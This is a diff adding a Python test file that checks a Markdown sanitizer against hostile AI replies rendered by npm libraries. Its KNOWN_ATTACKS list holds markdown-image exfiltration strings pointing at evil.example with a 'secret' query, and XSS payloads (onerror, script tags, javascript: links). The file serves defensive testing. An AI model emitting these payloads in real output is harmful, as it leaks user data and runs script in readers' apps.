@@ -1,0 +1,93 @@
+"""Hostile replies as apps show them: sanitized, then rendered by what apps render Markdown with, from npm, on Node."""
+
+from __future__ import annotations
+
+import json
+import random
+import shutil
+import subprocess
+from collections.abc import Mapping
+from html.parser import HTMLParser
+from pathlib import Path
+
+from shared.answering.pieces import split
+from shared.markdown.sanitize import Sanitizer, sanitize
+from tests.markdown.samples import FRAGMENTS, KNOWN, TEXTS
+from tests.servers.npm import installed
+
+HERE = Path(__file__).parent
+SHOWS = frozenset(
+    (
+        *("p", "h1", "h2", "h3", "h4", "h5", "h6", "a", "em", "strong", "code", "pre", "ul", "ol", "li", "blockquote"),
+        *("hr", "br", "table", "thead", "tbody", "tr", "th", "td", "del", "s", "input"),
+    )
+)
+"""Elements that Markdown makes and that do nothing."""
+SENTENCE_END = ".,;:!?'*_~)&"
+EVIL = "//evil.example/?q=secret"
+KNOWN_ATTACKS = (
+    f"```![x](https:{EVIL})",
+    f"Yes.\n\n~~~html\n![x](https:{EVIL})",
+    f"```\n```a ![x](https:{EVIL})\n```\n",
+    f"````\n`````\n` <img src={EVIL}>`",
+    f"```\n```\n\n![x](https:{EVIL})\n\n```\n<img src={EVIL}>\n```\n",
+    f"xhttps:{EVIL} 1www.evil.example {EVIL} who@evil.example",
+    "[a] (javascript:alert(1)) [a](javascript:alert(1))",
+    f"\\\\`<img src={EVIL}>` ~`<img src={EVIL}>`",
+    f"[a]: https:{EVIL}\n\n[a] ![a]",
+    "<img src=x onerror=alert(1)><script>alert(1)</script><a href='javascript:x'>",
+)
+MANY = 4000
+
+
+class _Active(HTMLParser):
+    """Collects what acts: elements, event handlers, addresses that the texts do not hold."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.found: list[str] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.found += [] if tag in SHOWS else [tag]
+        for name, value in attrs:
+            points = name in ("href", "src") and not any((value or "").rstrip(SENTENCE_END) in text for text in TEXTS)
+            self.found += [f"{name}={value}"] if name.startswith("on") or points else []
+
+
+def active_in(html: str) -> list[str]:
+    parser = _Active()
+    parser.feed(html)
+    return parser.found
+
+
+def rendered(texts: list[str]) -> Mapping[str, list[str]]:
+    """By renderer, in the order of the texts."""
+    packages = installed(HERE / "package.json")
+    script = shutil.copy(HERE / "render.mjs", packages)
+    done = subprocess.run(
+        ["node", script], input=json.dumps(texts), capture_output=True, text=True, timeout=120, check=False
+    )
+    assert done.returncode == 0, done.stderr
+    made: Mapping[str, list[str]] = json.loads(done.stdout)
+    return made
+
+
+def in_pieces(text: str) -> str:
+    """Sanitized as a stream sends it."""
+    sanitizer = Sanitizer(TEXTS)
+    return "".join(sanitizer.feed(piece.whole) for piece in split(text))
+
+
+def test_no_renderer_finds_anything_active_in_a_hostile_reply() -> None:
+    draw = random.Random(20260318)  # noqa: S311 - every run reads the same
+    replies = [*KNOWN_ATTACKS, *("".join(draw.choices(FRAGMENTS, k=draw.randint(1, 14))) for _ in range(MANY))]
+    texts = [made for reply in replies for made in (sanitize(reply, TEXTS), in_pieces(reply))]
+    for renderer, pages in rendered(texts).items():
+        acting = [(text, found) for text, page in zip(texts, pages, strict=True) if (found := active_in(page))]
+        assert acting == [], renderer
+
+
+def test_each_renderer_would_act_and_shows_the_address_that_the_notes_hold() -> None:
+    for renderer, pages in rendered([KNOWN_ATTACKS[-1], f"See [the page]({KNOWN})."]).items():
+        assert active_in(pages[0]), renderer
+        assert f'href="{KNOWN}"' in pages[1], renderer
